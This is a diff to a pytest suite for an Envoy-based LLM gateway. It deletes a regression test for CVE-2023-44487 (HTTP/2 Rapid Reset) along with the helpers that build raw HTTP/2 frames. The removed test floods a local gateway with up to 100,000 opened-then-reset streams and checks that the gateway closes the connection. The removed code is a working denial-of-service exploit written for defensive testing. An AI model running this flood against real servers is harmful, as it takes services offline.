@@ -2,8 +2,6 @@
 
 import gzip
 import json
-import socket
-import struct
 from dataclasses import replace
 from pathlib import Path
 
@@ -11,7 +9,6 @@ import pytest
 
 from infra.services.gateway.envoy.files import BOOTSTRAP, files
 from infra.services.gateway.envoy.place import in_pod
-from tests.conftest import HANGS_SECONDS
 from tests.gateway.engine import Engine
 from tests.gateway.plans import ENGINE_KEY, client, traffic, upstream
 from tests.gateway.running import Gateway, place_in, running
@@ -295,41 +292,3 @@ def test_headers_behind_a_body_are_dropped(gateway: Gateway, engine: Engine) -> 
     body = CHUNKED.removesuffix(b"\r\n") + b"x-llm-client: other\r\nauthorization: Bearer x\r\n\r\n"
     assert status_of(gateway.raw(post(KEY, JSON, b"transfer-encoding: chunked", body=body, sized=False))) == 200
     assert engine.requests[0].header("x-llm-client") == ["app"]
-
-
-def test_a_connection_that_opens_and_resets_streams_is_closed(gateway: Gateway, engine: Engine) -> None:
-    """CVE-2023-44487."""
-    opened = 0
-    with socket.create_connection(("127.0.0.1", gateway.place.port), timeout=HANGS_SECONDS) as connection:
-        try:
-            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0))
-            while opened < 100_000:
-                stream = 2 * opened + 1
-                connection.sendall(_frame(1, 4, stream, _HEADERS) + _frame(3, 0, stream, struct.pack(">I", 8)))
-                opened += 1
-        except ConnectionError:
-            pass
-    closed = "http.clients.downstream_rq_too_many_premature_resets"
-    assert gateway.stats(closed) == {closed: 1}
-    assert gateway.ask("GET", "/v1/models").status == 200
-
-
-def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
-    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
-
-
-def _field(name: bytes, value: bytes) -> bytes:
-    return b"\x10" + bytes([len(name)]) + name + bytes([len(value)]) + value
-
-
-_HEADERS = b"".join(
-    _field(*pair)
-    for pair in (
-        (b":method", b"POST"),
-        (b":path", b"/v1/chat/completions"),
-        (b":scheme", b"http"),
-        (b":authority", b"llm"),
-        (b"authorization", b"Bearer key-of-app-1"),
-        (b"content-type", b"application/json"),
-    )
-)
